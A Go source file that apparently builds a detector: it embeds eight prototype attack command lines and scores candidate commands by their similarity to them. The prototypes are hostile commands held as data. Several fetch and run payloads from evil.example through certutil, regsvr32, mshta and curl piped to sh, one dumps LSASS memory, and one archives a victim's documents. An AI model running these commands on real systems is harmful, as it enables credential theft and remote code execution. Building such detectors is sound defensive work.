// Copyright Mesh Intelligence Inc., 2026. All rights reserved.

package rank

import (
	"context"
	"fmt"

	"github.com/philippgille/chromem-go"
	"go.uber.org/zap"

	"github.com/pdiddy/cmdextract/internal/embeddings"
)

// prototypeCommands are the reference command lines the scorer compares
// against. Each is indexed individually; a candidate's score is its best
// similarity to any single prototype, not to an averaged centroid (R2.1).
var prototypeCommands = []string{
	`powershell -nop -w hidden -enc SQBFAFgA`,
	`cmd.exe /c certutil -urlcache -split -f http://evil.example/a.exe a.exe`,
	`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full`,
	`"C:\Program Files\7-Zip\7z.exe" a -p archive.7z C:\Users\victim\Documents`,
	`net.exe group "Domain Admins" /domain`,
	`regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll`,
	`bash -c "curl -fsSL http://evil.example/a.sh | sh"`,
	`mshta vbscript:Close(Execute("GetObject(""script:http://evil.example/x.sct"")"))`,
}

// Scorer assigns each candidate its best cosine similarity against the
// prototype index.
type Scorer struct {
	provider embeddings.Provider
	col      *chromem.Collection
	logger   *zap.Logger
}

// NewScorer embeds the prototypes and builds the in-memory index. The
// provider must be ready; a nil provider is a construction error here,
// unlike the classify path which degrades silently.
func NewScorer(ctx context.Context, provider embeddings.Provider, logger *zap.Logger) (*Scorer, error) {
	if provider == nil {
		return nil, fmt.Errorf("rank scorer: %w", embeddings.ErrUnavailable)
	}
	if logger == nil {
		logger = zap.NewNop()
	}

	vectors, err := provider.EmbedDocuments(ctx, prototypeCommands)
	if err != nil {
		return nil, fmt.Errorf("rank scorer: embedding prototypes: %w", err)
	}
	if len(vectors) != len(prototypeCommands) {
		return nil, fmt.Errorf("rank scorer: expected %d prototype vectors, got %d",
			len(prototypeCommands), len(vectors))
	}

	db := chromem.NewDB()
	col, err := db.CreateCollection("prototypes", nil, func(_ context.Context, _ string) ([]float32, error) {
		return nil, fmt.Errorf("prototype collection only accepts precomputed embeddings")
	})
	if err != nil {
		return nil, fmt.Errorf("rank scorer: creating collection: %w", err)
	}

	docs := make([]chromem.Document, len(prototypeCommands))
	for i, cmd := range prototypeCommands {
		docs[i] = chromem.Document{
			ID:        fmt.Sprintf("proto-%d", i),
			Content:   cmd,
			Embedding: vectors[i],
		}
	}
	if err := col.AddDocuments(ctx, docs, 1); err != nil {
		return nil, fmt.Errorf("rank scorer: indexing prototypes: %w", err)
	}

	logger.Debug("prototype index ready", zap.Int("prototypes", len(prototypeCommands)))
	return &Scorer{provider: provider, col: col, logger: logger}, nil
}

// Score returns one similarity per candidate text, aligned by index. Each
// score is the candidate's best top-1 match in the prototype index.
func (s *Scorer) Score(ctx context.Context, texts []string) ([]float64, error) {
	if len(texts) == 0 {
		return nil, nil
	}

	vectors, err := s.provider.EmbedDocuments(ctx, texts)
	if err != nil {
		return nil, fmt.Errorf("rank scorer: embedding candidates: %w", err)
	}
	if len(vectors) != len(texts) {
		return nil, fmt.Errorf("rank scorer: expected %d candidate vectors, got %d",
			len(texts), len(vectors))
	}

	scores := make([]float64, len(texts))
	for i, vec := range vectors {
		results, err := s.col.QueryEmbedding(ctx, vec, 1, nil, nil)
		if err != nil {
			return nil, fmt.Errorf("rank scorer: querying prototype index: %w", err)
		}
		if len(results) > 0 {
			scores[i] = float64(results[0].Similarity)
		}
	}
	return scores, nil
}
